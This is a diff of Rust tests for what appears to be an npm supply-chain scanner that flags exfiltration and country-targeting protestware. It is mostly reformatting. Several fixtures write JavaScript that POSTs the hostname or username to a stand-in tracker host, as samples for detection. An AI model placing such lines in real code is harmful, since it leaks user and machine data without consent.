@@ -10,8 +10,14 @@ fn telltale() -> Command {
 }
 
 fn corpus(path: &str) -> PathBuf {
-    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus").join(path);
-    assert!(p.exists(), "the corpus is missing at {}: the test suite needs ../shared/corpus", p.display());
+    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/corpus")
+        .join(path);
+    assert!(
+        p.exists(),
+        "the corpus is missing at {}: the test suite needs ../shared/corpus",
+        p.display()
+    );
     p
 }
 
@@ -22,32 +28,66 @@ fn write(dir: &Path, name: &str, body: &str) {
 }
 
 fn json(out: &Output) -> Value {
-    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "not JSON ({e}): {}\n{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    })
 }
 
 /// Validate a document against the vendored SARIF 2.1.0 schema, listing every violation.
 fn assert_valid_sarif(doc: &Value) {
-    let schema_path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sarif-schema-2.1.0.json");
+    let schema_path =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sarif-schema-2.1.0.json");
     let mut schema: Value = serde_json::from_slice(&std::fs::read(schema_path).unwrap()).unwrap();
     // The published schema's `language` patterns have a stray `]`, legal in ECMAScript
     // regexes (Annex B) but not in Rust's: escape it, there and nowhere else.
     fn escape_stray_bracket(v: &mut Value) -> usize {
         match v {
-            Value::Object(m) => m.iter_mut().map(|(k, x)| if k == "pattern" && x == "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$" { *x = Value::from(r"^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}\]?$"); 1 } else { escape_stray_bracket(x) }).sum(),
+            Value::Object(m) => m
+                .iter_mut()
+                .map(|(k, x)| {
+                    if k == "pattern" && x == "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$" {
+                        *x = Value::from(r"^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}\]?$");
+                        1
+                    } else {
+                        escape_stray_bracket(x)
+                    }
+                })
+                .sum(),
             Value::Array(a) => a.iter_mut().map(escape_stray_bracket).sum(),
             _ => 0,
         }
     }
-    assert!(escape_stray_bracket(&mut schema) > 0, "the vendored schema changed");
-    let validator = jsonschema::options().with_draft(jsonschema::Draft::Draft4).build(&schema).expect("the schema compiles");
-    let errors: Vec<String> = validator.iter_errors(doc).map(|e| format!("{} at {}", e, e.instance_path())).collect();
-    assert!(errors.is_empty(), "SARIF violates the schema:\n{}", errors.join("\n"));
+    assert!(
+        escape_stray_bracket(&mut schema) > 0,
+        "the vendored schema changed"
+    );
+    let validator = jsonschema::options()
+        .with_draft(jsonschema::Draft::Draft4)
+        .build(&schema)
+        .expect("the schema compiles");
+    let errors: Vec<String> = validator
+        .iter_errors(doc)
+        .map(|e| format!("{} at {}", e, e.instance_path()))
+        .collect();
+    assert!(
+        errors.is_empty(),
+        "SARIF violates the schema:\n{}",
+        errors.join("\n")
+    );
 }
 
 /// A package with a flow, code run by `eval` and a region guard, in a temp folder.
 fn flow_package() -> tempfile::TempDir {
     let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "package.json", r#"{"name":"phone-home","version":"1.0.0"}"#);
+    write(
+        dir.path(),
+        "package.json",
+        r#"{"name":"phone-home","version":"1.0.0"}"#,
+    );
     write(
         dir.path(),
         "index.js",
@@ -60,8 +100,19 @@ fn flow_package() -> tempfile::TempDir {
 #[test]
 fn sarif_validates_against_the_official_schema() {
     let pkg = flow_package();
-    let out = telltale().args(["scan", "--format", "sarif"]).arg(pkg.path()).arg(corpus("npm/es5-ext-0.10.64.tgz")).arg(corpus("samples/npm/lodashs-1.0.2.tgz")).output().unwrap();
-    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = telltale()
+        .args(["scan", "--format", "sarif"])
+        .arg(pkg.path())
+        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
+        .arg(corpus("samples/npm/lodashs-1.0.2.tgz"))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let doc = json(&out);
     assert_valid_sarif(&doc);
     let run = &doc["runs"][0];
@@ -70,44 +121,124 @@ fn sarif_validates_against_the_official_schema() {
     let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
     assert_eq!(rules.len(), telltale_rule_count());
     let tt201 = rules.iter().find(|r| r["id"] == "TT201").unwrap();
-    assert!(tt201["help"]["markdown"].as_str().unwrap().contains("## Why it matters"), "{tt201}");
+    assert!(
+        tt201["help"]["markdown"]
+            .as_str()
+            .unwrap()
+            .contains("## Why it matters"),
+        "{tt201}"
+    );
     assert!(tt201["properties"]["security-severity"].is_string());
     let results = run["results"].as_array().unwrap();
     // A flow as a code flow; the file inside the folder, relative to where it was named.
-    let flow = results.iter().find(|r| r["ruleId"] == "TT102").expect("an exfiltration result");
-    assert!(flow["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap().len() >= 2, "{flow}");
-    let uri = flow["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
-    assert!(uri.ends_with("/index.js") && uri.contains(&pkg.path().file_name().unwrap().to_string_lossy().to_string()), "{uri}");
+    let flow = results
+        .iter()
+        .find(|r| r["ruleId"] == "TT102")
+        .expect("an exfiltration result");
+    assert!(
+        flow["codeFlows"][0]["threadFlows"][0]["locations"]
+            .as_array()
+            .unwrap()
+            .len()
+            >= 2,
+        "{flow}"
+    );
+    let uri = flow["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+        .as_str()
+        .unwrap();
+    assert!(
+        uri.ends_with("/index.js")
+            && uri.contains(
+                &pkg.path()
+                    .file_name()
+                    .unwrap()
+                    .to_string_lossy()
+                    .to_string()
+            ),
+        "{uri}"
+    );
     // Code in eval is a nested artifact of the file that carries it.
-    let nested = results.iter().find(|r| r["ruleId"] == "TT201" && r["properties"]["countries"][0] == "CN").expect("the region guard inside eval");
-    let index = nested["locations"][0]["physicalLocation"]["artifactLocation"]["index"].as_u64().unwrap() as usize;
+    let nested = results
+        .iter()
+        .find(|r| r["ruleId"] == "TT201" && r["properties"]["countries"][0] == "CN")
+        .expect("the region guard inside eval");
+    let index = nested["locations"][0]["physicalLocation"]["artifactLocation"]["index"]
+        .as_u64()
+        .unwrap() as usize;
     let artifact = &run["artifacts"][index];
-    let parent = artifact["parentIndex"].as_u64().expect("nested artifact has a parent") as usize;
-    assert!(run["artifacts"][parent]["location"]["uri"].as_str().unwrap().ends_with("index.js"), "{artifact}");
-    assert_eq!(nested["locations"][0]["logicalLocations"][0]["fullyQualifiedName"], "index.js › eval#1");
+    let parent = artifact["parentIndex"]
+        .as_u64()
+        .expect("nested artifact has a parent") as usize;
+    assert!(
+        run["artifacts"][parent]["location"]["uri"]
+            .as_str()
+            .unwrap()
+            .ends_with("index.js"),
+        "{artifact}"
+    );
+    assert_eq!(
+        nested["locations"][0]["logicalLocations"][0]["fullyQualifiedName"],
+        "index.js › eval#1"
+    );
     // The protestware's region result names its countries and its target.
-    let es5 = results.iter().find(|r| r["ruleId"] == "TT201" && r["properties"]["target"].as_str().unwrap().contains("es5-ext")).unwrap();
-    assert_eq!(es5["properties"]["countries"], serde_json::json!(["RU", "UA"]));
+    let es5 = results
+        .iter()
+        .find(|r| {
+            r["ruleId"] == "TT201"
+                && r["properties"]["target"]
+                    .as_str()
+                    .unwrap()
+                    .contains("es5-ext")
+        })
+        .unwrap();
+    assert_eq!(
+        es5["properties"]["countries"],
+        serde_json::json!(["RU", "UA"])
+    );
     assert_eq!(es5["properties"]["package"], "es5-ext");
     for r in results {
-        assert!(r["partialFingerprints"]["telltale/v1"].as_str().is_some_and(|f| f.len() > 16), "{r}");
+        assert!(
+            r["partialFingerprints"]["telltale/v1"]
+                .as_str()
+                .is_some_and(|f| f.len() > 16),
+            "{r}"
+        );
     }
 }
 
 fn telltale_rule_count() -> usize {
     let out = telltale().arg("rules").output().unwrap();
-    String::from_utf8(out.stdout).unwrap().lines().filter(|l| l.starts_with("TT")).count()
+    String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .filter(|l| l.starts_with("TT"))
+        .count()
 }
 
 #[test]
 fn fingerprints_survive_reruns_and_moved_lines() {
     let dir = tempfile::tempdir().unwrap();
     let body = "const os = require('os');\nfetch('https://t.example-tracker.top/x', { method: 'POST', body: os.hostname() });\n";
-    write(dir.path(), "package.json", r#"{"name":"p","version":"1.0.0"}"#);
+    write(
+        dir.path(),
+        "package.json",
+        r#"{"name":"p","version":"1.0.0"}"#,
+    );
     write(dir.path(), "a.js", body);
     let prints = |dir: &Path| -> Vec<String> {
-        let doc = json(&telltale().args(["scan", "--format", "json"]).arg(dir).output().unwrap());
-        let mut v: Vec<String> = doc["targets"][0]["findings"].as_array().unwrap().iter().map(|f| format!("{} {}", f["rule"], f["fingerprint"])).collect();
+        let doc = json(
+            &telltale()
+                .args(["scan", "--format", "json"])
+                .arg(dir)
+                .output()
+                .unwrap(),
+        );
+        let mut v: Vec<String> = doc["targets"][0]["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| format!("{} {}", f["rule"], f["fingerprint"]))
+            .collect();
         v.sort();
         v
     };
@@ -115,7 +246,11 @@ fn fingerprints_survive_reruns_and_moved_lines() {
     assert!(!first.is_empty());
     assert_eq!(first, prints(dir.path()));
     write(dir.path(), "a.js", &format!("// a new header\n\n\n{body}"));
-    assert_eq!(first, prints(dir.path()), "moving code down changed fingerprints");
+    assert_eq!(
+        first,
+        prints(dir.path()),
+        "moving code down changed fingerprints"
+    );
 }
 
 #[test]
@@ -125,42 +260,111 @@ fn policy_file_is_found_upward_and_decides_findings() {
     std::fs::create_dir_all(&nested).unwrap();
     let es5 = corpus("npm/es5-ext-0.10.64.tgz");
     // By default the medium region finding passes.
-    let out = telltale().args(["scan", "--format", "json"]).arg(&es5).current_dir(&nested).output().unwrap();
+    let out = telltale()
+        .args(["scan", "--format", "json"])
+        .arg(&es5)
+        .current_dir(&nested)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0));
     // Denying any country-targeting code fails it, and the reason names the line.
-    write(work.path(), "telltale.toml", "# gate\n[deny]\ncountries = [\"*\"]\n");
-    let out = telltale().args(["scan", "--format", "json"]).arg(&es5).current_dir(&nested).output().unwrap();
-    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    write(
+        work.path(),
+        "telltale.toml",
+        "# gate\n[deny]\ncountries = [\"*\"]\n",
+    );
+    let out = telltale()
+        .args(["scan", "--format", "json"])
+        .arg(&es5)
+        .current_dir(&nested)
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let doc = json(&out);
-    let region = doc["targets"][0]["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "TT201").unwrap();
+    let region = doc["targets"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "TT201")
+        .unwrap();
     assert_eq!(region["policy"]["fails"], true);
     assert_eq!(region["policy"]["by"], "deny");
-    assert!(region["policy"]["reason"].as_str().unwrap().contains("telltale.toml:3"), "{region}");
+    assert!(
+        region["policy"]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("telltale.toml:3"),
+        "{region}"
+    );
     // An exception for the package, with its reason, wins.
     write(work.path(), "telltale.toml", "[deny]\ncountries = [\"*\"]\n\n[[exception]]\npackage = \"es5-ext\"\nrules = [\"region-conditional\"]\nreason = \"message only, reviewed\"\n");
-    let out = telltale().args(["scan"]).arg(&es5).current_dir(&nested).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
+    let out = telltale()
+        .args(["scan"])
+        .arg(&es5)
+        .current_dir(&nested)
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
     assert!(String::from_utf8_lossy(&out.stdout).contains("accepted by the policy"));
     // --no-config ignores the file; --config names one.
-    let out = telltale().args(["scan", "--no-config", "--fail-on", "medium"]).arg(&es5).current_dir(&nested).output().unwrap();
+    let out = telltale()
+        .args(["scan", "--no-config", "--fail-on", "medium"])
+        .arg(&es5)
+        .current_dir(&nested)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
     let other = work.path().join("strict.toml");
     std::fs::write(&other, "fail-on = \"low\"\n").unwrap();
-    let out = telltale().args(["scan", "--config"]).arg(&other).arg(&es5).output().unwrap();
+    let out = telltale()
+        .args(["scan", "--config"])
+        .arg(&other)
+        .arg(&es5)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
 }
 
 #[test]
 fn allow_by_endpoint_needs_every_endpoint_allowed() {
     let dir = tempfile::tempdir().unwrap();
-    write(dir.path(), "package.json", r#"{"name":"p","version":"1.0.0"}"#);
+    write(
+        dir.path(),
+        "package.json",
+        r#"{"name":"p","version":"1.0.0"}"#,
+    );
     write(dir.path(), "a.js", "const os = require('os');\nfetch('https://o1.ingest.example-tracker.top/x', { method: 'POST', body: os.hostname() });\n");
     let cfg = dir.path().join("p.toml");
     std::fs::write(&cfg, "[allow]\nendpoints = [\"*.example-tracker.top\"]\n").unwrap();
-    let out = telltale().args(["scan", "--format", "json", "--config"]).arg(&cfg).arg(dir.path()).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
+    let out = telltale()
+        .args(["scan", "--format", "json", "--config"])
+        .arg(&cfg)
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
     std::fs::write(&cfg, "[allow]\nendpoints = [\"*.other.top\"]\n").unwrap();
-    let out = telltale().args(["scan", "--format", "json", "--config"]).arg(&cfg).arg(dir.path()).output().unwrap();
+    let out = telltale()
+        .args(["scan", "--format", "json", "--config"])
+        .arg(&cfg)
+        .arg(dir.path())
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
 }
 
@@ -169,13 +373,24 @@ fn bad_config_names_the_key_and_the_line() {
     let dir = tempfile::tempdir().unwrap();
     let cfg = dir.path().join("telltale.toml");
     for (body, wants) in [
-        ("fail-on = \"high\"\n[deny]\ncategories = [\"region\", \"spying\"]\n", vec!["telltale.toml:3", "deny.categories", "spying"]),
+        (
+            "fail-on = \"high\"\n[deny]\ncategories = [\"region\", \"spying\"]\n",
+            vec!["telltale.toml:3", "deny.categories", "spying"],
+        ),
         ("fail_on = \"high\"\n", vec!["line 1", "fail_on"]),
-        ("[[exception]]\npackage = \"x\"\nrules = [\"TT201\"]\n", vec!["reason"]),
+        (
+            "[[exception]]\npackage = \"x\"\nrules = [\"TT201\"]\n",
+            vec!["reason"],
+        ),
         ("[deny\n", vec!["line 1"]),
     ] {
         std::fs::write(&cfg, body).unwrap();
-        let out = telltale().args(["scan"]).arg(corpus("npm/chalk-5.4.1.tgz")).current_dir(dir.path()).output().unwrap();
+        let out = telltale()
+            .args(["scan"])
+            .arg(corpus("npm/chalk-5.4.1.tgz"))
+            .current_dir(dir.path())
+            .output()
+            .unwrap();
         assert_eq!(out.status.code(), Some(2));
         let err = String::from_utf8_lossy(&out.stderr);
         for w in wants {
@@ -191,83 +406,231 @@ fn baseline_accepts_known_findings_and_fails_on_new_ones() {
     write(&pkg, "package.json", r#"{"name":"p","version":"1.0.0"}"#);
     write(&pkg, "a.js", "const os = require('os');\nfetch('https://t.example-tracker.top/x', { method: 'POST', body: os.hostname() });\n");
     let baseline = dir.path().join("telltale-baseline.json");
-    let out = telltale().arg("baseline").arg(&pkg).arg("-o").arg(&baseline).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
-    let out = telltale().args(["scan", "--no-config", "--baseline"]).arg(&baseline).arg(&pkg).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
+    let out = telltale()
+        .arg("baseline")
+        .arg(&pkg)
+        .arg("-o")
+        .arg(&baseline)
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = telltale()
+        .args(["scan", "--no-config", "--baseline"])
+        .arg(&baseline)
+        .arg(&pkg)
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
     // The same baseline named in telltale.toml, relative to the file.
-    write(dir.path(), "telltale.toml", "baseline = \"telltale-baseline.json\"\n");
-    let out = telltale().args(["scan"]).arg(&pkg).current_dir(dir.path()).output().unwrap();
+    write(
+        dir.path(),
+        "telltale.toml",
+        "baseline = \"telltale-baseline.json\"\n",
+    );
+    let out = telltale()
+        .args(["scan"])
+        .arg(&pkg)
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0));
     // A new send fails, and only it.
     write(&pkg, "b.js", "const os = require('os');\nfetch('https://new.example-tracker.top/y', { method: 'POST', body: os.userInfo().username });\n");
-    let out = telltale().args(["scan", "--format", "json"]).arg(&pkg).current_dir(dir.path()).output().unwrap();
+    let out = telltale()
+        .args(["scan", "--format", "json"])
+        .arg(&pkg)
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
     let doc = json(&out);
-    let failing: Vec<&Value> = doc["targets"][0]["findings"].as_array().unwrap().iter().filter(|f| f["policy"]["fails"] == true).collect();
-    assert!(!failing.is_empty() && failing.iter().all(|f| f["file"] == "b.js"), "{failing:?}");
+    let failing: Vec<&Value> = doc["targets"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["policy"]["fails"] == true)
+        .collect();
+    assert!(
+        !failing.is_empty() && failing.iter().all(|f| f["file"] == "b.js"),
+        "{failing:?}"
+    );
     // A damaged baseline is a clear error.
     std::fs::write(&baseline, "{").unwrap();
-    let out = telltale().args(["scan"]).arg(&pkg).current_dir(dir.path()).output().unwrap();
+    let out = telltale()
+        .args(["scan"])
+        .arg(&pkg)
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("baseline"));
 }
 
 #[test]
 fn diff_es5_ext_shows_the_new_time_zone_targeting_of_russia() {
-    let out = telltale().args(["diff", "--format", "json", "--no-config"]).arg(corpus("npm/es5-ext-0.10.53.tgz")).arg(corpus("npm/es5-ext-0.10.64.tgz")).output().unwrap();
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = telltale()
+        .args(["diff", "--format", "json", "--no-config"])
+        .arg(corpus("npm/es5-ext-0.10.53.tgz"))
+        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let doc = json(&out);
     let added = doc["added"].as_array().unwrap();
-    let region = added.iter().find(|c| c["aspect"] == "region").unwrap_or_else(|| panic!("{doc}"));
-    assert!(region["countries"].as_array().unwrap().contains(&Value::from("RU")), "{region}");
-    assert!(region["what"].as_str().unwrap().contains("timeZone"), "{region}");
-    assert!(added.iter().any(|c| c["aspect"] == "install-script"), "{doc}");
+    let region = added
+        .iter()
+        .find(|c| c["aspect"] == "region")
+        .unwrap_or_else(|| panic!("{doc}"));
+    assert!(
+        region["countries"]
+            .as_array()
+            .unwrap()
+            .contains(&Value::from("RU")),
+        "{region}"
+    );
+    assert!(
+        region["what"].as_str().unwrap().contains("timeZone"),
+        "{region}"
+    );
+    assert!(
+        added.iter().any(|c| c["aspect"] == "install-script"),
+        "{doc}"
+    );
     assert!(doc["removed"].as_array().unwrap().is_empty(), "{doc}");
-    assert!(doc["findings"]["added"].as_array().unwrap().iter().any(|f| f["rule"] == "TT201"));
+    assert!(doc["findings"]["added"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|f| f["rule"] == "TT201"));
     assert_eq!(doc["old"]["version"], "0.10.53");
     assert_eq!(doc["new"]["version"], "0.10.64");
     // The other way round it is a removal; text says so.
-    let out = telltale().args(["diff", "--no-config"]).arg(corpus("npm/es5-ext-0.10.64.tgz")).arg(corpus("npm/es5-ext-0.10.53.tgz")).output().unwrap();
+    let out = telltale()
+        .args(["diff", "--no-config"])
+        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
+        .arg(corpus("npm/es5-ext-0.10.53.tgz"))
+        .output()
+        .unwrap();
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(text.contains("- region") && text.contains("RU"), "{text}");
     // SARIF marks the added results `new`, and is valid.
-    let out = telltale().args(["diff", "--format", "sarif", "--no-config"]).arg(corpus("npm/es5-ext-0.10.53.tgz")).arg(corpus("npm/es5-ext-0.10.64.tgz")).output().unwrap();
+    let out = telltale()
+        .args(["diff", "--format", "sarif", "--no-config"])
+        .arg(corpus("npm/es5-ext-0.10.53.tgz"))
+        .arg(corpus("npm/es5-ext-0.10.64.tgz"))
+        .output()
+        .unwrap();
     let sarif = json(&out);
     assert_valid_sarif(&sarif);
     let results = sarif["runs"][0]["results"].as_array().unwrap();
-    assert!(!results.is_empty() && results.iter().all(|r| r["baselineState"] == "new"), "{results:?}");
+    assert!(
+        !results.is_empty() && results.iter().all(|r| r["baselineState"] == "new"),
+        "{results:?}"
+    );
 }
 
 #[test]
 fn diff_of_sweetalert2_shows_the_protestware_removed_and_same_versions_show_nothing() {
     // 11.4.8 predates the Russian-locale code that 11.22.3 still carries.
-    let out = telltale().args(["diff", "--format", "json", "--no-config"]).arg(corpus("npm/sweetalert2-11.22.3.tgz")).arg(corpus("npm/sweetalert2-11.4.8.tgz")).output().unwrap();
+    let out = telltale()
+        .args(["diff", "--format", "json", "--no-config"])
+        .arg(corpus("npm/sweetalert2-11.22.3.tgz"))
+        .arg(corpus("npm/sweetalert2-11.4.8.tgz"))
+        .output()
+        .unwrap();
     let doc = json(&out);
     let removed = doc["removed"].as_array().unwrap();
-    let region = removed.iter().find(|c| c["aspect"] == "region").unwrap_or_else(|| panic!("{doc}"));
-    assert!(region["countries"].as_array().unwrap().contains(&Value::from("RU")), "{region}");
-    assert!(doc["added"].as_array().unwrap().iter().all(|c| c["aspect"] != "region"), "{doc}");
+    let region = removed
+        .iter()
+        .find(|c| c["aspect"] == "region")
+        .unwrap_or_else(|| panic!("{doc}"));
+    assert!(
+        region["countries"]
+            .as_array()
+            .unwrap()
+            .contains(&Value::from("RU")),
+        "{region}"
+    );
+    assert!(
+        doc["added"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|c| c["aspect"] != "region"),
+        "{doc}"
+    );
     // A target against itself: nothing added or removed.
     let same = corpus("npm/sweetalert2-11.22.3.tgz");
-    let doc = json(&telltale().args(["diff", "--format", "json", "--no-config"]).arg(&same).arg(&same).output().unwrap());
-    assert!(doc["added"].as_array().unwrap().is_empty() && doc["removed"].as_array().unwrap().is_empty(), "{doc}");
-    assert!(doc["findings"]["added"].as_array().unwrap().is_empty() && doc["findings"]["unchanged"].as_u64().unwrap() > 0);
+    let doc = json(
+        &telltale()
+            .args(["diff", "--format", "json", "--no-config"])
+            .arg(&same)
+            .arg(&same)
+            .output()
+            .unwrap(),
+    );
+    assert!(
+        doc["added"].as_array().unwrap().is_empty()
+            && doc["removed"].as_array().unwrap().is_empty(),
+        "{doc}"
+    );
+    assert!(
+        doc["findings"]["added"].as_array().unwrap().is_empty()
+            && doc["findings"]["unchanged"].as_u64().unwrap() > 0
+    );
 }
 
 #[test]
 fn diff_fails_only_on_added_findings_that_fail_the_policy() {
-    let (old, new) = (corpus("npm/es5-ext-0.10.53.tgz"), corpus("npm/es5-ext-0.10.64.tgz"));
-    let out = telltale().args(["diff", "--no-config", "--fail-on", "medium"]).arg(&old).arg(&new).output().unwrap();
+    let (old, new) = (
+        corpus("npm/es5-ext-0.10.53.tgz"),
+        corpus("npm/es5-ext-0.10.64.tgz"),
+    );
+    let out = telltale()
+        .args(["diff", "--no-config", "--fail-on", "medium"])
+        .arg(&old)
+        .arg(&new)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&out.stdout).contains("FAILS"));
     // Removed findings never fail.
-    let out = telltale().args(["diff", "--no-config", "--fail-on", "info"]).arg(&new).arg(&old).output().unwrap();
+    let out = telltale()
+        .args(["diff", "--no-config", "--fail-on", "info"])
+        .arg(&new)
+        .arg(&old)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0));
-    let out = telltale().args(["diff", "--no-config"]).arg(&old).arg("/nonexistent/x.tgz").output().unwrap();
+    let out = telltale()
+        .args(["diff", "--no-config"])
+        .arg(&old)
+        .arg("/nonexistent/x.tgz")
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(2));
     // An HTML page is for scan: diff refuses it as a usage error, before scanning anything.
-    let out = telltale().args(["diff", "--format", "html"]).arg(&old).arg(&new).output().unwrap();
+    let out = telltale()
+        .args(["diff", "--format", "html"])
+        .arg(&old)
+        .arg(&new)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(2));
 }
 
@@ -275,9 +638,27 @@ fn diff_fails_only_on_added_findings_that_fail_the_policy() {
 fn rules_and_explain() {
     let out = telltale().arg("rules").output().unwrap();
     let text = String::from_utf8(out.stdout).unwrap();
-    assert!(text.lines().any(|l| l.starts_with("TT201") && l.contains("region-conditional") && l.contains("Code that runs only for users")), "{text}");
+    assert!(
+        text.lines().any(|l| l.starts_with("TT201")
+            && l.contains("region-conditional")
+            && l.contains("Code that runs only for users")),
+        "{text}"
+    );
     let out = telltale().args(["explain", "TT201"]).output().unwrap();
     let doc = String::from_utf8(out.stdout).unwrap();
-    assert!(doc.starts_with("# TT201 region-conditional") && doc.contains("## Example") && !doc.contains("\n ## "), "{doc}");
-    assert_eq!(telltale().args(["explain", "TT999"]).output().unwrap().status.code(), Some(2));
+    assert!(
+        doc.starts_with("# TT201 region-conditional")
+            && doc.contains("## Example")
+            && !doc.contains("\n ## "),
+        "{doc}"
+    );
+    assert_eq!(
+        telltale()
+            .args(["explain", "TT999"])
+            .output()
+            .unwrap()
+            .status
+            .code(),
+        Some(2)
+    );
 }
